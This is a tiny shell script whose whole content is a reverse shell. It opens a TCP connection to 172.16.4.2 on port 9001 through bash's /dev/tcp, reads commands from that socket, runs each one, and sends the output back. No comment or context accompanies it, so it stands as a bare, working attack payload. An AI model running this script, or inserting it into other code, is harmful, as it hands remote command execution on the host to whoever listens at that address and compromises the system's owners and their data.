#!/bin/sh
exec 5<>/dev/tcp/172.16.4.2/9001; cat <&5 | while read line; do $line 2>&5 >&5; done
